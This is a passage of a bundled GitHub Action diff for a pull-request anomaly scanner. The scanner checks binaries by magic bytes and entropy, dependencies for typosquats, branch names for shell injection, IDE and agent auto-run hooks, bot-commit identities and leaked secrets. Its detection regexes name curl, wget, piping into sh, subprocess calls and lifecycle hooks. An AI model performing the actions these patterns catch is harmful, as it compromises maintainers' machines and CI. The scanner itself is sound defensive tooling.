+        remediation: 'Only trust bot commits that GitHub shows as Verified; ask the author to re-commit under their own identity.',
+        spec: ['S8-4'],
+        references: [TJ]
+    },
+    META_GOVERNANCE: {
+        id: 'meta/governance-edit',
+        title: 'CODEOWNERS, CI or scanner configuration changed',
+        severity: 'medium',
+        why: 'These files decide who must review and what runs in CI; changing them can remove the next line of defence.',
+        remediation: 'Have a maintainer who owns CI review the change.',
+        spec: ['S6-1', 'S8-5']
+    },
+    META_NEW_AUTHOR: {
+        id: 'meta/new-author-sensitive-paths',
+        title: 'First-time contributor changes sensitive files',
+        severity: 'medium',
+        why: 'Build files, workflows and binaries from an author without history deserve the closest review (PyTorch, xz).',
+        remediation: 'Review these files line by line before approving workflow runs.',
+        spec: ['S8-16']
+    },
+    META_AUTORUN: {
+        id: 'meta/ide-autorun',
+        title: 'File that makes an IDE or agent run code',
+        severity: 'high',
+        why: '`.vscode/tasks.json` with `folderOpen`, devcontainer lifecycle commands and agent hooks run as soon as a maintainer opens the checkout (Shai-Hulud).',
+        remediation: 'Remove the auto-run entry; never open untrusted checkouts in trusted mode.',
+        spec: ['S8-16'],
+        references: [GHOST]
+    },
+    META_SUPPRESSION: {
+        id: 'meta/suppression-added',
+        title: 'PR adds an inline suppression',
+        severity: 'low',
+        why: 'An ignore comment added by the PR itself hides a finding from this scan; reviewers must agree with it.',
+        remediation: 'Confirm the reason; the suppressed finding is listed in the report.',
+        spec: ['S8-16']
+    },
+    // --- secrets ---------------------------------------------------------------------------
+    SECRET: {
+        id: 'secrets/credential',
+        title: 'Credential added',
+        severity: 'critical',
+        why: 'A committed credential is public as soon as the PR is pushed.',
+        remediation: 'Revoke the credential now, then remove it from the branch.',
+        spec: ['S6-7', 'S6-5'],
+        pathIgnorable: false
+    }
+});
+const rules_REGISTRY = new src/* RuleRegistry */.UD('pr-anomaly-scan', (0,src/* rulesOf */.fD)(rules_RULES));
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/binary.ts
+// Opaque content: what a binary file is (magic bytes), how random it looks
+// (entropy) and where it sits. Blobs are streamed, so a 1 GB file costs a
+// histogram, not a gigabyte.
+
+
+
+/** Bytes kept from the start of each blob: magic detection needs 4100, git's binary test looks at 8000. */
+const HEAD = 8000;
+/** Entropy is measured on the first 16 MiB; enough to tell text-like from compressed. */
+const ENTROPY_BYTES = 16 * 1024 * 1024;
+class BlobAnalyser {
+    hash = (0,external_node_crypto_.createHash)('sha256');
+    counts = new Float64Array(256);
+    sampled = 0;
+    headParts = [];
+    headLen = 0;
+    size = 0;
+    chunk(b) {
+        this.size += b.length;
+        this.hash.update(b);
+        if (this.headLen < HEAD) {
+            const part = b.subarray(0, HEAD - this.headLen);
+            this.headParts.push(Buffer.from(part));
+            this.headLen += part.length;
+        }
+        const n = Math.min(b.length, ENTROPY_BYTES - this.sampled);
+        for (let i = 0; i < n; i++)
+            this.counts[b[i]]++;
+        this.sampled += n;
+    }
+    facts() {
+        let entropy = 0;
+        for (const c of this.counts) {
+            if (c) {
+                const p = c / this.sampled;
+                entropy -= p * Math.log2(p);
+            }
+        }
+        const head = Buffer.concat(this.headParts);
+        return { size: this.size, sha256: this.hash.digest('hex'), head, entropy, hasNul: head.includes(0) };
+    }
+}
+// Formats common in scientific repositories that generic detectors miss, then executables.
+const MAGIC = [
+    [
+        Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'),
+        { name: 'HDF5', exts: ['h5', 'hdf5', 'hdf', 'he5', 'nc', 'nc4', 'mat'] }
+    ],
+    [Buffer.from('\x93NUMPY', 'latin1'), { name: 'NPY', exts: ['npy'] }],
+    [Buffer.from('SIMPLE  =', 'latin1'), { name: 'FITS', exts: ['fits', 'fit', 'fts', 'fz'] }],
+    [Buffer.from('CDF\x01', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
+    [Buffer.from('CDF\x02', 'latin1'), { name: 'netCDF', exts: ['nc', 'cdf'] }],
+    [Buffer.from('MATLAB 5.0', 'latin1'), { name: 'MAT', exts: ['mat'] }],
+    [Buffer.from('PAR1', 'latin1'), { name: 'Parquet', exts: ['parquet'] }],
+    [Buffer.from('\x7fELF', 'latin1'), { name: 'ELF executable', exts: ['so', 'o'], exec: true }],
+    [Buffer.from('MZ', 'latin1'), { name: 'Windows executable', exts: ['exe', 'dll', 'pyd'], exec: true }],
+    [Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), { name: 'Mach-O', exts: ['dylib', 'so'], exec: true }],
+    [Buffer.from([0xca, 0xfe, 0xba, 0xbe]), { name: 'Mach-O/Java class', exts: ['class', 'dylib'], exec: true }],
+    [/^\x80[\x02-\x05]/, { name: 'pickle', exts: ['pkl', 'pickle', 'joblib', 'p'], exec: true }],
+    [Buffer.from('\xfd7zXZ\x00', 'latin1'), { name: 'xz', exts: ['xz', 'txz'], compressed: true }],
+    [Buffer.from([0x5d, 0x00, 0x00]), { name: 'lzma', exts: ['lzma'], compressed: true }],
+    [Buffer.from([0x1f, 0x8b]), { name: 'gzip', exts: ['gz', 'tgz'], compressed: true }],
+    [Buffer.from('BZh', 'latin1'), { name: 'bzip2', exts: ['bz2', 'tbz2'], compressed: true }],
+    [Buffer.from([0x28, 0xb5, 0x2f, 0xfd]), { name: 'zstd', exts: ['zst'], compressed: true }],
+    [Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1'), { name: '7z', exts: ['7z'], compressed: true }],
+    [
+        Buffer.from('PK\x03\x04', 'latin1'),
+        { name: 'zip', exts: ['zip', 'whl', 'jar', 'npz', 'docx', 'xlsx', 'pptx', 'odt', 'egg', 'nupkg'], compressed: true }
+    ]
+];
+const COMPRESSED_EXT = new Set([
+    'xz',
+    'lzma',
+    'gz',
+    'tgz',
+    'bz2',
+    'zst',
+    '7z',
+    'zip',
+    'rar',
+    'tar',
+    'z',
+    'lz',
+    'lz4',
+    'br'
+]);
+const CONTAINER_FINE = new Set(['npz', 'whl', 'docx', 'xlsx', 'pptx', 'odt', 'jar']);
+async function detect(head) {
+    for (const [m, k] of MAGIC) {
+        if (Buffer.isBuffer(m) ? head.subarray(0, m.length).equals(m) : m.test(head.subarray(0, 8).toString('latin1')))
+            return k;
+    }
+    const { fileTypeFromBuffer } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(388)]).then(__nccwpck_require__.bind(__nccwpck_require__, 3388));
+    const t = await fileTypeFromBuffer(new Uint8Array(head)).catch(() => undefined);
+    if (!t)
+        return undefined;
+    const ext = t.ext;
+    return { name: t.mime, exts: ext === 'jpg' ? ['jpg', 'jpeg'] : ext === 'tif' ? ['tif', 'tiff'] : [ext] };
+}
+const TESTS = /(^|\/)(tests?|testing|test_?data|fixtures?|data|testfiles|files)\//i;
+async function scanBinary({ file, facts, oldSize }) {
+    const path = file.path;
+    const ext = (/\.([^./]+)$/.exec(path)?.[1] ?? '').toLowerCase();
+    const kind = await detect(facts.head);
+    const inTests = TESTS.test(path);
+    const sizeText = oldSize !== undefined && file.status !== 'added' ? `${oldSize} → ${facts.size} bytes` : `${facts.size} bytes`;
+    const properties = {
+        size: facts.size,
+        oldSize,
+        entropy: Number(facts.entropy.toFixed(2)),
+        format: kind?.name ?? 'unknown',
+        contentSha256: facts.sha256,
+        status: file.status
+    };
+    const make = (rule, message, extra = {}) => (0,src/* createFinding */.uP)(rule, {
+        message,
+        location: { file: path },
+        evidence: `${kind?.name ?? 'unknown format'}, ${sizeText}, entropy ${facts.entropy.toFixed(2)} bits/byte`,
+        key: facts.sha256,
+        properties,
+        ...extra
+    });
+    const mismatch = kind && ext && !kind.exts.includes(ext) && !(kind.compressed && COMPRESSED_EXT.has(ext));
+    if (kind?.exec)
+        return [
+            make(rules_RULES.BIN_EXECUTABLE, `${kind.name} ${file.status}${mismatch ? ` with extension .${ext}` : ''}.`, {
+                severity: 'high'
+            })
+        ];
+    if (mismatch)
+        return [
+            make(rules_RULES.BIN_OPAQUE, `Content is ${kind.name} but the extension is .${ext || '(none)'}.`, { severity: 'high' })
+        ];
+    if (kind?.compressed && !CONTAINER_FINE.has(ext) && inTests) {
+        return [make(rules_RULES.BIN_ARCHIVE_TESTS, `${kind.name} data ${file.status} under a test/data folder.`)];
+    }
+    if (!kind) {
+        // Unknown format: high entropy means compressed or encrypted content that no tool in the repo will explain.
+        const random = facts.entropy > 7.5 && facts.size > 256;
+        if (random || COMPRESSED_EXT.has(ext)) {
+            return [
+                make(inTests ? rules_RULES.BIN_ARCHIVE_TESTS : rules_RULES.BIN_OPAQUE, `Unrecognised binary (${random ? 'compressed or encrypted-looking' : 'unknown format'}) ${file.status}.`, { severity: random ? 'high' : 'medium' })
+            ];
+        }
+        if (facts.size > 1024 * 1024 || !inTests)
+            return [make(rules_RULES.BIN_OPAQUE, `Unrecognised binary ${file.status}.`, { severity: 'low', confidence: 'medium' })];
+    }
+    return [];
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/sides.ts
+// Both sides of a changed file, parsed for the rules that compare them.
+
+/**
+ * The head must parse (its error is reported for the file); a base that does
+ * not parse counts as absent, so everything in the head is treated as new.
+ */
+function parseBoth(parse, file, baseText, headText) {
+    let head;
+    try {
+        head = parse(headText, file);
+    }
+    catch (e) {
+        return { error: (0,src/* oneLine */.TN)(e) };
+    }
+    try {
+        return { head, base: baseText === undefined ? undefined : parse(baseText, file) };
+    }
+    catch {
+        return { head };
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/deps.ts
+// Dependency rules over the shared core parsers and typosquat detector: what
+// the PR adds to pyproject, requirements and environment files.
+
+
+
+const isDependencyFile = (path) => {
+    const k = (0,src/* pythonFileKind */.lN)(path);
+    return k !== undefined && !k.endsWith('lock'); // lock files follow their manifests; scanning them twice doubles every finding
+};
+function scanDependencies(file, baseText, headText) {
+    const parsed = parseBoth(src/* parsePythonFile */.SI, file, baseText, headText);
+    if ('error' in parsed)
+        return { findings: [], error: parsed.error };
+    const { head, base } = parsed;
+    const findings = [];
+    const known = new Set(base?.dependencies.map((d) => `${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`) ?? []);
+    const knownNames = new Set(base?.dependencies.map((d) => d.name) ?? []);
+    for (const d of head.dependencies) {
+        if (known.has(`${d.name}|${d.url ?? ''}|${d.vcs?.url ?? ''}`))
+            continue;
+        const location = { file, line: d.line };
+        const squat = (0,src/* findTyposquat */.eL)(d.name);
+        if (squat) {
+            findings.push((0,src/* createFinding */.uP)(rules_RULES.DEP_TYPOSQUAT, {
+                message: `\`${d.rawName}\` is one ${squat.kind.replace(/-/g, ' ')} away from the popular \`${squat.target}\`.`,
+                evidence: d.rawName,
+                location,
+                properties: { target: squat.target, kind: squat.kind }
+            }));
+        }
+        if (d.url || d.vcs) {
+            findings.push((0,src/* createFinding */.uP)(rules_RULES.DEP_DIRECT_URL, {
+                message: `\`${d.rawName}\` comes from ${d.vcs ? `${d.vcs.type} ${d.vcs.url}` : d.url}.`,
+                evidence: d.vcs?.url ?? d.url ?? d.rawName,
+                location
+            }));
+        }
+        if (!knownNames.has(d.name) && !squat) {
+            findings.push((0,src/* createFinding */.uP)(rules_RULES.DEP_NEW, {
+                message: `New dependency \`${d.rawName}\`${d.group ? ` (${d.group})` : ''}.`,
+                evidence: d.rawName,
+                location
+            }));
+        }
+    }
+    const baseOptions = new Set(base?.options.map((o) => `${o.option} ${o.value ?? ''}`) ?? []);
+    for (const o of head.options) {
+        if (!/index-url|find-links|trusted-host|^-i$|^-f$/.test(o.option) ||
+            baseOptions.has(`${o.option} ${o.value ?? ''}`))
+            continue;
+        findings.push((0,src/* createFinding */.uP)(rules_RULES.DEP_INDEX_URL, {
+            message: `\`${o.option} ${o.value ?? ''}\` adds a package source.`,
+            evidence: `${o.option} ${o.value ?? ''}`.trim(),
+            location: { file, line: o.line }
+        }));
+    }
+    return { findings };
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/meta.ts
+// PR metadata rules: the head branch name, who sent the PR and what identity
+// its commits claim. The event payload is always read; the API (at most
+// MAX_REQUESTS per PR) adds account age, history and commit verification.
+
+
+const MAX_REQUESTS = 10;
+function prMetaFromEvent(event, repository) {
+    const pr = event?.pull_request;
+    const repo = event?.repository?.full_name ?? repository;
+    if (!pr)
+        return { repo };
+    return {
+        number: typeof pr.number === 'number' ? pr.number : undefined,
+        repo,
+        headRef: pr.head?.ref,
+        author: pr.user?.login,
+        association: pr.author_association,
+        title: pr.title,
+        body: pr.body ?? undefined,
+        baseSha: pr.base?.sha,
+        headSha: pr.head?.sha
+    };
+}
+/** Characters a shell gives meaning to; git allows all of them in branch names except a few. */
+const SHELL_META = /[$`;|&<>(){}\\'"!*?]|\$\{IFS\}/;
+function refFindings(meta) {
+    if (!meta.headRef || !SHELL_META.test(meta.headRef))
+        return [];
+    const strong = /\$\(|`|\$\{IFS\}|\|\s*(ba)?sh|curl|wget/.test(meta.headRef);
+    return [
+        (0,src/* createFinding */.uP)(rules_RULES.META_REF_INJECTION, {
+            message: `The head branch name contains shell syntax${strong ? ' that runs a command when interpolated' : ''}.`,
+            evidence: meta.headRef.slice(0, 200),
+            severity: strong ? 'critical' : 'medium',
+            confidence: strong ? 'high' : 'medium'
+        })
+    ];
+}
+const SENSITIVE = /(^|\/)(\.github\/|CODEOWNERS$|setup\.py$|setup\.cfg$|pyproject\.toml$|meson\.build$|CMakeLists\.txt$|conftest\.py$|noxfile\.py$|tox\.ini$|\.pre-commit-config\.ya?ml$|Makefile|configure\.ac$|[^/]*\.m4$|[^/]*\.pth$|dist\/|\.vscode\/|\.devcontainer\/|\.claude\/|requirements[^/]*\.txt$|environment[^/]*\.ya?ml$)/;
+const isSensitive = (path) => SENSITIVE.test(path);
+function governanceFindings(paths, configPath) {
+    const out = [];
+    for (const p of paths) {
+        const what = /(^|\/)CODEOWNERS$/.test(p)
+            ? 'CODEOWNERS decides who must review'
+            : p === configPath || p === '.github/security-actions.yml'
+                ? "this scanner's own configuration (ignores, severities) is changed by the PR it scans"
+                : /^\.github\/(dependabot\.ya?ml|actions\/)|^\.github\/workflows\//.test(p)
+                    ? 'CI configuration'
+                    : undefined;
+        if (what)
+            out.push((0,src/* createFinding */.uP)(rules_RULES.META_GOVERNANCE, {
+                message: `${p}: ${what}.`,
+                location: { file: p },
+                evidence: p,
+                severity: what === 'CI configuration' ? (/workflows\//.test(p) ? 'low' : 'medium') : 'high',
+                confidence: 'high'
+            }));
+    }
+    return out;
+}
+/** IDE and agent files that run commands when a checkout is opened. */
+function autorunFindings(path, text) {
+    const line = (re) => {
+        const i = text.split('\n').findIndex((l) => re.test(l));
+        return i < 0 ? 1 : i + 1;
+    };
+    const hit = (re, message) => re.test(text)
+        ? [
+            (0,src/* createFinding */.uP)(rules_RULES.META_AUTORUN, {
+                message,
+                location: { file: path, line: line(re) },
+                evidence: (re.exec(text)?.[0] ?? '').slice(0, 120)
+            })
+        ]
+        : [];
+    if (/(^|\/)\.vscode\/tasks\.json$/.test(path))
+        return hit(/"runOn"\s*:\s*"folderOpen"/, 'A VS Code task runs when the folder is opened.');
+    if (/(^|\/)\.devcontainer(\/[^/]+)?\/devcontainer\.json$|(^|\/)\.devcontainer\.json$/.test(path)) {
+        return hit(/"(initializeCommand|onCreateCommand|updateContentCommand|postCreateCommand|postStartCommand|postAttachCommand)"\s*:/, 'A devcontainer lifecycle command runs when the container is created or opened.');
+    }
+    if (/(^|\/)\.(claude|gemini|cursor|codex)\/[^/]*\.json$|(^|\/)\.mcp\.json$/.test(path)) {
+        return hit(/"(hooks|SessionStart|PreToolUse|PostToolUse|command)"\s*:/, 'An AI-agent configuration runs commands (hooks or MCP servers) in this checkout.');
+    }
+    return [];
+}
+const BOT = /\[bot\]|^(github-actions|dependabot|renovate|pre-commit-ci)\b|41898282\+github-actions|noreply@github\.com$/i;
+const claimsBot = (c) => BOT.test(c.authorName) ||
+    BOT.test(c.authorEmail) ||
+    BOT.test(c.committerName) ||
+    (BOT.test(c.committerEmail) && c.committerEmail !== 'noreply@github.com');
+/** The API checks, within MAX_REQUESTS; each failure becomes a NotChecked, never a pass. */
+async function apiChecks(client, meta, opts) {
+    const out = { findings: [], notChecked: [], notes: [], used: 0 };
+    const botCommits = opts.commits.filter(claimsBot);
+    const newAuthorByEvent = ['FIRST_TIME_CONTRIBUTOR', 'FIRST_TIMER', 'NONE'].includes(meta.association ?? '');
+    const reportNewAuthor = (why) => {
+        if (opts.diff.sensitive.length) {
+            out.findings.push((0,src/* createFinding */.uP)(rules_RULES.META_NEW_AUTHOR, {
+                message: `${meta.author ?? 'The author'} (${why}) changes ${opts.diff.sensitive.length} sensitive file(s): ${opts.diff.sensitive.slice(0, 5).join(', ')}${opts.diff.sensitive.length > 5 ? ', …' : ''}.`,
+                evidence: opts.diff.sensitive.slice(0, 5).join(', '),
+                key: `${meta.author}`,
+                confidence: 'medium'
+            }));
+        }
+    };
+    if (!client || !meta.author || !meta.repo) {
+        const reason = opts.noTokenReason ?? (!meta.author ? 'no pull_request event payload (author unknown)' : 'no token given');
+        for (const check of ['account-age', 'author-history', rules_RULES.META_EMPTY_NEW.id])
+            out.notChecked.push({ check, reason });
+        if (botCommits.length)
+            out.notChecked.push({
+                check: rules_RULES.META_BOT_IDENTITY.id,
+                reason: `${botCommits.length} commit(s) claim a bot identity; verification needs the API (${reason})`
+            });
+        if (newAuthorByEvent)
+            reportNewAuthor(`author association ${meta.association}`);
+        else if (!meta.association)
+            out.notChecked.push({ check: rules_RULES.META_NEW_AUTHOR.id, reason });
+        return out;
+    }
+    const [owner, repo] = meta.repo.split('/');
+    let budget = Math.min(opts.budget, MAX_REQUESTS);
+    const call = async (check, permission, f) => {
+        if (budget <= 0) {
+            out.notChecked.push({ check, reason: `API request budget (${MAX_REQUESTS} per PR) used up` });
+            return undefined;
+        }
+        budget--;
+        out.used++;
+        try {
+            return await f();
+        }
+        catch (e) {
+            out.notChecked.push({ check, reason: (0,src/* describeApiError */.gg)(e, permission) });
+            return undefined;
+        }
+    };
+    const user = await call('account-age', undefined, () => client.rest.rest.users.getByUsername({ username: meta.author }));
+    const ageDays = user ? (Date.now() - Date.parse(user.data.created_at)) / 86_400_000 : undefined;
+    const q = (scope) => `is:pr is:merged author:${meta.author} ${scope}`;
+    const inRepo = await call('author-history', 'pull_requests: read', () => client.rest.rest.search.issuesAndPullRequests({ q: q(`repo:${meta.repo}`), per_page: 1 }));
+    const orgs = opts.trustedOrgs.filter((o) => /^[\w.-]+$/.test(o));
+    const inOrgs = orgs.length
+        ? await call('author-history-trusted-orgs', undefined, () => client.rest.rest.search.issuesAndPullRequests({ q: q(orgs.map((o) => `org:${o}`).join(' ')), per_page: 1 }))
+        : undefined;
+    const merged = inRepo ? inRepo.data.total_count : undefined;
+    const mergedOrgs = inOrgs ? inOrgs.data.total_count : 0;
+    if (['MEMBER', 'OWNER'].includes(meta.association ?? '')) {
+        // Organisation members and owners already hold write access; history adds nothing. (COLLABORATOR is not trusted, after cuda-python.)
+    }
+    else if (merged !== undefined) {
+        if (merged === 0 && mergedOrgs === 0)
+            reportNewAuthor(`no merged PRs in ${meta.repo}${orgs.length ? ` or ${orgs.join(', ')}` : ''}`);
+    }
+    else if (newAuthorByEvent)
+        reportNewAuthor(`author association ${meta.association}`);
+    if (ageDays !== undefined) {
+        if (ageDays < 30 && opts.diff.lines <= 2 && opts.diff.files <= 1) {
+            out.findings.push((0,src/* createFinding */.uP)(rules_RULES.META_EMPTY_NEW, {
+                message: `${meta.author}'s account is ${Math.floor(ageDays)} day(s) old and the PR changes ${opts.diff.files} file(s), ${opts.diff.lines} line(s).`,
+                evidence: `${meta.author} created ${user.data.created_at}`,
+                key: meta.author
+            }));
+        }
+    }
+    else if (!out.notChecked.some((n) => n.check === 'account-age')) {
+        out.notChecked.push({ check: rules_RULES.META_EMPTY_NEW.id, reason: 'account age unknown' });
+    }
+    if (botCommits.length) {
+        // One GraphQL request for up to 20 commits (aliases), whatever the PR's size.
+        const checked = botCommits.slice(0, 20);
+        const query = `query($owner:String!,$name:String!){repository(owner:$owner,name:$name){${checked
+            .map((c, i) => `c${i}:object(oid:"${c.sha}"){... on Commit{signature{isValid state}}}`)
+            .join(' ')}}}`;
+        const data = await call(rules_RULES.META_BOT_IDENTITY.id, 'contents: read', () => client.graphql(query, { owner, name: repo }));
+        if (data) {
+            checked.forEach((c, i) => {
+                const sig = data.repository?.[`c${i}`]?.signature;
+                if (!sig?.isValid) {
+                    out.findings.push((0,src/* createFinding */.uP)(rules_RULES.META_BOT_IDENTITY, {
+                        message: `Commit ${c.sha.slice(0, 12)} claims to be from ${c.authorName} <${c.authorEmail}> but is ${sig ? `not verified (${sig.state})` : 'unsigned'}.`,
+                        evidence: `${c.authorName} <${c.authorEmail}>: ${c.subject}`.slice(0, 160),
+                        key: c.sha
+                    }));
+                }
+            });
+            if (botCommits.length > checked.length)
+                out.notes.push(`${botCommits.length - checked.length} more commits claiming a bot identity were not verified (limit 20).`);
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/secrets.ts
+// Credentials added by the PR, found by secretlint's maintained recommended
+// preset (not our own vendor regexes). Only candidate lines are kept while
+// the diff streams; the secret itself never reaches a message or evidence.
+
+
+/** Cheap pre-filter: a long token-like run or a PEM header. Everything else cannot be a credential. */
+const OTHER = /PRIVATE KEY|:\/\/[^/\s:@]+:[^/\s@]+@/;
+const TOKEN_CHAR = new Uint8Array(128);
+for (const c of 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-+/=.:')
+    TOKEN_CHAR[c.charCodeAt(0)] = 1;
+/** A run of 20 token characters, found in one linear pass (a regex retries up to 20 times per position). */
+function hasTokenRun(s) {
+    let run = 0;
+    for (let i = 0; i < s.length; i++) {
+        const c = s.charCodeAt(i);
+        if (c < 128 && TOKEN_CHAR[c]) {
+            if (++run >= 20)
+                return true;
+        }
+        else
+            run = 0;
+    }
+    return false;
+}
+const isCandidate = (s) => hasTokenRun(s) || ((s.includes('PRIVATE KEY') || s.includes('@')) && OTHER.test(s));
+const MAX_CANDIDATE_BYTES = 8 * 1024 * 1024;
+class SecretCollector {
+    files = new Map();
+    bytes = 0;
+    truncated = false;
+    add(path, lines, all) {
+        if (all !== undefined && !isCandidate(all))
+            return;
+        if (/\.(ipynb|svg|lock|min\.js|map)$/.test(path) || /(^|\/)(package-lock\.json|yarn\.lock)$/.test(path))
+            return;
+        const keep = lines.filter((l) => isCandidate(l.text));
+        if (!keep.length)
+            return;
+        for (const l of keep)
+            this.bytes += l.text.length;
+        if (this.bytes > MAX_CANDIDATE_BYTES) {
+            this.truncated = true;
+            return;
+        }
+        this.files.set(path, keep.map((l) => ({ line: l.line, text: l.text.slice(0, 4096) })));
+    }
+    async scan() {
+        if (!this.files.size)
+            return [];
+        const { lintSource } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(198)]).then(__nccwpck_require__.bind(__nccwpck_require__, 198));
+        const { creator } = await __nccwpck_require__.e(/* import() */ 577).then(__nccwpck_require__.bind(__nccwpck_require__, 1577));
+        const config = { rules: [{ id: '@secretlint/secretlint-rule-preset-recommend', rule: creator }] };
+        const out = [];
+        for (const [path, lines] of this.files) {
+            const result = await lintSource({
+                source: { filePath: `/${path}`, content: lines.map((l) => l.text).join('\n'), contentType: 'text' },
+                options: { config, maskSecrets: true }
+            });
+            for (const m of result.messages) {
+                const l = lines[m.loc.start.line - 1];
+                if (!l)
+                    continue;
+                const kind = m.ruleId.replace(/^@secretlint\/secretlint-rule-/, '');
+                out.push((0,src/* createFinding */.uP)(rules_RULES.SECRET, {
+                    message: `A ${kind} credential is added (detected by secretlint ${kind}).`,
+                    location: { file: path, line: l.line, column: m.loc.start.column + 1 },
+                    evidence: `${kind} credential (masked)`,
+                    // The fingerprint must not be a hash of the secret (it would let anyone confirm a guess).
+                    key: `${kind}:${l.line}`,
+                    properties: { detector: m.ruleId }
+                }));
+            }
+        }
+        return out;
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/suppressions.ts
+// The scan's own suppressions, as core entries that the shared runner applies
+// with the config file's ignores: inline comments
+// (`pr-anomaly-scan: ignore[rule-id] reason`) and the content-hash allowlist
+// of the config's `pr-anomaly-scan:` section.
+
+
+const SUPPRESS = /pr-anomaly-scan:\s*ignore\[([a-z0-9/,\s-]+)\](.*)$/;
+/** `pr-anomaly-scan: ignore[rule-id] reason` comments among the given lines. */
+function inlineIgnores(lines) {
+    const out = [];
+    for (const l of lines) {
+        const m = SUPPRESS.exec(l.text);
+        if (!m)
+            continue;
+        out.push({
+            line: l.line,
+            rules: m[1]
+                .split(',')
+                .map((s) => s.trim())
+                .filter(Boolean),
+            reason: m[2].replace(/(-->|\*\/)\s*$/, '').trim()
+        });
+    }
+    return out;
+}
+/**
+ * Rules no inline comment silences: the record of the ignores a PR adds, and
+ * a credential, which is public once pushed (it is revoked, not silenced; a
+ * config ignore by line or fingerprint still applies to a false alarm).
+ */
+const NOT_INLINE = new Set([rules_RULES.META_SUPPRESSION.id, rules_RULES.SECRET.id]);
+/**
+ * Entries for the ignores with a reason in `file`: each covers the rules it
+ * names on its own line and the next. `only` narrows the rules further.
+ */
+function inlineSuppressions(file, ignores, only = () => true) {
+    const path = (0,src/* literalPath */.l1)(file);
+    return ignores
+        .filter((ig) => ig.reason)
+        .flatMap((ig) => ig.rules
+        .filter((rule) => !NOT_INLINE.has(rule) && only(rule))
+        .flatMap((rule) => [ig.line, ig.line + 1].map((line) => ({
+        rule,
+        path,
+        line,
+        reason: ig.reason,
+        source: `${file}:${ig.line}`,
+        kind: 'inSource'
+    }))));
+}
+/**
+ * The allowlist of known fixtures and lines: matched on the SHA-256 of a
+ * binary file's content or of a finding's trimmed line (`contentSha256`), so
+ * an allowed file or line stays allowed wherever it moves.
+ */
+function allowSuppressions(config) {
+    const allow = (config.sections['pr-anomaly-scan']?.allow ?? []);
+    return allow.map((a, i) => ({
+        ...(a.rule ? { rule: a.rule } : {}),
+        properties: { contentSha256: a.sha256 },
+        reason: a.reason,
+        ...(a.expires ? { expires: a.expires } : {}),
+        source: `${config.file ?? 'config'} pr-anomaly-scan.allow.${i} (sha256 ${a.sha256.slice(0, 12)})`
+    }));
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/lines.ts
+// What every rule over added lines shares: the hit it returns, how evidence
+// is shortened, which files are prose, the keyword pre-checks, and the
+// finding a hit becomes.
+
+
+const lines_short = (s, n = 160) => (s.length > n ? `${s.slice(0, n - 1)}…` : s);
+const PROSE_EXT = /\.(md|rst|txt|tex|html?|po|pot|svg|xml|csv|tsv|bib|ipynb)$/i;
+const isProse = (p) => PROSE_EXT.test(p);
+// Literal pre-checks (substring search, much faster than a regex alternation over megabytes) decide which
+// keyword groups occur in a file's added text; the per-line patterns run only for those.
+const GROUPS = {
+    decode: ['decode', 'fromhex', 'unhexlify', 'atob', 'Buffer.from'],
+    decompress: ['decompress', 'loads', 'Sync('],
+    chr: ['chr(', 'CharCode', '\\'],
+    packer: ['pyarmor', 'p,a,c,k,e,', '_0x', 'jsfuck'],
+    process: ['subprocess', 'os.system', 'os.popen', 'Thread(', 'Popen']
+};
+const hasKeyword = (all, group) => GROUPS[group].some((w) => all.includes(w));
+function hitToFinding(path, h) {
+    return (0,src/* createFinding */.uP)(h.rule, {
+        message: h.message,
+        severity: h.severity,
+        confidence: h.confidence,
+        location: { file: path, line: h.line.line },
+        evidence: h.evidence,
+        key: h.line.text.trim().slice(0, 500),
+        // The content-hash allowlist matches the line's hash, so an allowed line stays allowed wherever it moves.
+        properties: { ...h.properties, contentSha256: (0,external_node_crypto_.createHash)('sha256').update(h.line.text.trim()).digest('hex') }
+    });
+}
+
+;// CONCATENATED MODULE: ./actions/pr-anomaly-scan/src/build.ts
+
+
+const NETWORK = /\b(urllib\.request|urlopen|requests\.(get|post)|httpx\.|http\.client|socket\.|curl\b|wget\b|Invoke-WebRequest|fetch\(|https?:\/\/)/;
+const PROCESS = /\b(subprocess|os\.system|os\.popen|Popen|check_output|check_call|os\.exec|pty\.spawn)\b/;
+const SETUP_HOOK = /\bcmdclass\b|class\s+\w+\((install|build_py|build_ext|develop|egg_info|sdist)\)/;
+const MESON = /\b(run_command|custom_target|run_target|generator)\s*\(/;
+const CMAKE = /\b(execute_process|file\s*\(\s*DOWNLOAD|ExternalProject_Add|FetchContent_Declare|add_custom_command)\b/i;
+const AUTOTOOLS_PATH = /(^|\/)(configure\.(ac|in)|Makefile\.(am|in)|aclocal\.m4|acinclude\.m4)$|\.m4$/;
+const AUTOTOOLS_BAD = /\beval\b|\$SHELL|\btr\s+["']|\bsed\s+["']r|\bhead\s+-c|\bxz\s+-d|\b(grep|sed)\s+-a|\|\s*sh\b/;
+const TEST_HOOK_PATH = /(^|\/)(conftest\.py|noxfile\.py|tox\.ini|pytest\.ini|setup\.cfg|Makefile|justfile|tasks\.py)$/;
+const MODULE_LEVEL_START = /^(subprocess\.(Popen|run|call|check_output|check_call)|os\.(system|popen)|threading\.Thread\(.*\)\.start|Popen)\s*\(|^\w+\s*=\s*subprocess\.Popen\(/;
+function buildHits(path, lines, all) {
+    const hits = [];
+    const name = path.split('/').pop();
+    const first = (re) => lines.find((l) => re.test(l.text));
+    if (name === 'setup.py') {
+        const hook = first(SETUP_HOOK);
+        const net = first(NETWORK);
+        const proc = first(PROCESS) ?? first(/\b(exec|eval)\s*\(/);
+        const at = net ?? proc ?? hook;
+        if (at) {
+            const what = [hook && 'a custom command', net && 'network access', proc && 'process or exec calls']
+                .filter(Boolean)
+                .join(', ');
+            hits.push({
